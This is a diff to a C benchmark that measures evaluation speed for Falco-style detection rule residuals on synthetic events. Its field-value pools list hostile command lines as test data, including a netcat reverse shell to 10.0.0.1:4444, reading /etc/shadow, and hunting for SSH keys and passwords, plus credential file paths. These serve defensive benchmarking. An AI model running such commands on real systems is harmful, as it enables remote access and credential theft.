@@ -1,7 +1,13 @@
 /* Evaluations per second of residual conditions in the style of Falco's default rules, on one
  * core, against a synthetic source that cycles through 64 made-up events. Each condition is
  * timed in interleaved rounds and reported as the median, and as a ratio to the cheapest
- * evaluation ("true") of the same run. Usage: saker_bench_eval [-r ROUNDS] [-n EVALS] [--json] */
+ * evaluation ("true") of the same run. Usage: saker_bench_eval [-r ROUNDS] [-n EVALS] [--json]
+ *
+ * With --bundle FILE, the conditions are instead the residuals of FILE's rules (what sakerd
+ * runs after the kernel part), on synthetic events that give every field a value of its type,
+ * drawn from pools of process names, command lines, paths, users and images; and the last line
+ * times all of them in turn, as sakerd would for an event that every rule's kernel part let
+ * through. */
 #define _GNU_SOURCE
 #include <sched.h>
 #include <stdio.h>
@@ -10,7 +16,9 @@
 #include <time.h>
 
 #include "cond_text.h"
+#include "saker/bundle.h"
 #include "saker/cond.h"
+#include "saker/fields.h"
 
 #define N_EVENTS 64
 
@@ -64,6 +72,184 @@ static void get(void *ctx, int field, const char *arg, sk_cval *v)
 	v->kind = SK_CV_STR;
 	v->s = s;
 	v->len = strlen(s);
+}
+
+/* --bundle: a value of FIELD's type for the current event, from pools chosen by the field's name. */
+static unsigned cur_index;
+static const char *const pool_cmd[] = { "bash -c id", "curl -fsSL https://example.com/x.sh",
+	"python3 -m http.server", "sshd -D", "nginx -g daemon off;", "find / -name id_rsa",
+	"cat /etc/shadow", "sh -c grep -r password /home", "tar czf /tmp/x.tgz /etc", "nc -e /bin/sh 10.0.0.1 4444" };
+static const char *const pool_path[] = { "/etc/shadow", "/etc/passwd", "/tmp/x", "/var/log/syslog",
+	"/usr/lib/x86_64-linux-gnu/libc.so.6", "/home/u/.ssh/id_rsa", "/dev/shm/a", "/proc/self/status",
+	"/etc/sudoers.d/90", "/root/.aws/credentials" };
+static const char *const pool_user[] = { "root", "app", "nobody", "postgres", "www-data" };
+static const char *const pool_image[] = { "docker.io/library/nginx", "quay.io/app/web",
+	"registry.k8s.io/pause", "docker.io/library/redis", "ghcr.io/acme/worker" };
+
+static const char *pick(const char *const *pool, size_t n, int field)
+{
+	return pool[(cur_index * 7u + (unsigned)field * 13u) % n];
+}
+#define PICK(pool, f) pick(pool, sizeof(pool) / sizeof(pool[0]), f)
+
+static const char *string_for(int field)
+{
+	const char *n = sk_fields[field].name;
+	if (strstr(n, "cmdline") || strstr(n, "args"))
+		return PICK(pool_cmd, field);
+	if (strstr(n, "image") || strstr(n, "repository"))
+		return PICK(pool_image, field);
+	if (strstr(n, "user") || strstr(n, "group") || strstr(n, "loginname"))
+		return PICK(pool_user, field);
+	if (!strncmp(n, "fd.", 3) || strstr(n, "exepath") || strstr(n, "cwd") || strstr(n, "path") ||
+	    strstr(n, "directory") || strstr(n, "filename"))
+		return PICK(pool_path, field);
+	return field % 2 ? PICK(shells, field) : PICK(other, field);
+}
+
+static sk_cval list_items[3];
+
+static void get_any(void *ctx, int field, const char *arg, sk_cval *v)
+{
+	(void)ctx;
+	(void)arg;
+	memset(v, 0, sizeof(*v));
+	if (field < 0 || field >= SK_FLD__COUNT) {
+		v->kind = SK_CV_NA;
+		return;
+	}
+	unsigned x = cur_index * 2654435761u + (unsigned)field * 40503u;
+	if (sk_fields[field].flags & SK_F_LIST) {
+		for (int i = 0; i < 3; i++) {
+			list_items[i].kind = SK_CV_STR;
+			list_items[i].s = string_for(field + i);
+			list_items[i].len = strlen(list_items[i].s);
+		}
+		v->kind = SK_CV_LIST;
+		v->items = list_items;
+		v->n_items = 1 + x % 3;
+		return;
+	}
+	switch (sk_fields[field].type) {
+	case SK_T_STR:
+	case SK_T_BYTES:
+		v->kind = SK_CV_STR;
+		v->s = string_for(field);
+		v->len = strlen(v->s);
+		break;
+	case SK_T_I64:
+		v->kind = SK_CV_INT;
+		v->i = (long long)(x % 2000) - 100;
+		break;
+	case SK_T_U64:
+	case SK_T_PORT:
+	case SK_T_RELTIME:
+	case SK_T_ABSTIME:
+		v->kind = SK_CV_UINT;
+		v->u = x % 70000;
+		break;
+	case SK_T_BOOL:
+		v->kind = SK_CV_BOOL;
+		v->b = (x >> 3) & 1;
+		break;
+	case SK_T_IPADDR:
+		v->kind = SK_CV_IP;
+		v->ip[0] = (x & 1) ? 127 : 10;
+		v->ip[3] = (unsigned char)(x >> 8);
+		v->ip_len = 4;
+		break;
+	case SK_T_DOUBLE:
+		v->kind = SK_CV_DOUBLE;
+		v->d = (double)(x % 1000) / 7.0;
+		break;
+	default:
+		v->kind = SK_CV_NA;
+	}
+}
+
+static double now(void);
+static int cmp_double(const void *a, const void *b);
+
+/* --bundle FILE: each rule's residual, then all of them in turn. */
+static int bench_bundle(const char *path, int rounds, long evals, int json)
+{
+	struct saker_bundle *b = NULL;
+	char err[512];
+	if (saker_bundle_read_file(path, &b, err, sizeof(err))) {
+		fprintf(stderr, "saker_bench_eval: %s\n", err);
+		return 2;
+	}
+	const struct sk_cond_src src = { get_any, NULL };
+	struct sk_cond_ctx *ctx;
+	if (sk_cond_ctx_new(&ctx)) {
+		saker_bundle_free(b);
+		return 2;
+	}
+	uint32_t n = 0;
+	for (uint32_t i = 0; i < b->n_rules; i++)
+		n += b->rules[i].residual != NULL;
+	if (!n) {
+		fprintf(stderr, "saker_bench_eval: %s: no rule has a residual\n", path);
+		sk_cond_ctx_free(ctx);
+		saker_bundle_free(b);
+		return 2;
+	}
+	double (*best)[64] = calloc((size_t)n + 1, sizeof(*best));
+	unsigned long matched = 0;
+	for (int r = 0; r < rounds; r++) {
+		uint32_t k = 0;
+		for (uint32_t i = 0; i < b->n_rules; i++) {
+			const sk_cexpr *e = b->rules[i].residual;
+			if (!e)
+				continue;
+			double t0 = now();
+			for (long j = 0; j < evals; j++) {
+				cur_index = (unsigned)(j % N_EVENTS);
+				int res = sk_cond_eval(ctx, e, &src);
+				if (res < 0) {
+					fprintf(stderr, "saker_bench_eval: rule '%s': evaluation failed: %d\n",
+						b->rules[i].name, res);
+					return 1;
+				}
+				matched += (unsigned long)res;
+			}
+			best[k++][r] = (double)evals / (now() - t0);
+		}
+		/* every residual on each event: sakerd's cost for an event all kernel parts passed */
+		double t0 = now();
+		for (long j = 0; j < evals / n + 1; j++) {
+			cur_index = (unsigned)(j % N_EVENTS);
+			for (uint32_t i = 0; i < b->n_rules; i++)
+				if (b->rules[i].residual)
+					matched += (unsigned long)(sk_cond_eval(ctx, b->rules[i].residual, &src) > 0);
+		}
+		best[n][r] = (double)(evals / n + 1) * n / (now() - t0);
+	}
+	if (json)
+		printf("{\"bundle\": \"%s\", \"evals_per_round\": %ld, \"rounds\": %d, \"residuals\": [", path, evals, rounds);
+	else
+		printf("%-52s %14s %10s\n", "rule (residual)", "evals/s", "ns/eval");
+	uint32_t k = 0;
+	for (uint32_t i = 0; i <= b->n_rules; i++) {
+		if (i < b->n_rules && !b->rules[i].residual)
+			continue;
+		qsort(best[k], (size_t)rounds, sizeof(double), cmp_double);
+		double med = best[k][rounds / 2];
+		const char *name = i < b->n_rules ? b->rules[i].name : "(all residuals, in turn)";
+		if (json)
+			printf("%s{\"rule\": \"%s\", \"evals_per_s\": %.0f, \"ns_per_eval\": %.1f}", k ? ", " : "", name, med, 1e9 / med);
+		else
+			printf("%-52.52s %14.0f %10.1f\n", name, med, 1e9 / med);
+		k++;
+	}
+	if (json)
+		printf("]}\n");
+	fprintf(stderr, "(%u residuals, %lu matches, %d rounds of %ld evaluations each, median shown)\n", n,
+		matched, rounds, evals);
+	free(best);
+	sk_cond_ctx_free(ctx);
+	saker_bundle_free(b);
+	return 0;
 }
 
 static void make_events(void)
@@ -121,6 +307,7 @@ static int cmp_double(const void *a, const void *b)
 int main(int argc, char **argv)
 {
 	int rounds = 5, json = 0;
+	const char *bundle = NULL;
 	long evals = 2000000;
 	const struct sk_cond_src src = { get, NULL };
 	struct sk_cond_ctx *ctx;
@@ -133,8 +320,10 @@ int main(int argc, char **argv)
 			evals = atol(argv[++i]);
 		else if (!strcmp(argv[i], "--json"))
 			json = 1;
+		else if (!strcmp(argv[i], "--bundle") && i + 1 < argc)
+			bundle = argv[++i];
 		else {
-			fprintf(stderr, "usage: %s [-r ROUNDS] [-n EVALS] [--json]\n", argv[0]);
+			fprintf(stderr, "usage: %s [-r ROUNDS] [-n EVALS] [--json] [--bundle FILE]\n", argv[0]);
 			return 2;
 		}
 	}
@@ -147,6 +336,8 @@ int main(int argc, char **argv)
 	CPU_SET(sched_getcpu() >= 0 ? sched_getcpu() : 0, &one);
 	sched_setaffinity(0, sizeof(one), &one);
 	make_events();
+	if (bundle)
+		return bench_bundle(bundle, rounds, evals, json);
 	char *big = join_names(shells, 60), *others = join_names(other, 10);
 	struct cond conds[] = {
 		{ "true (baseline)", "true", NULL, { 0 } },
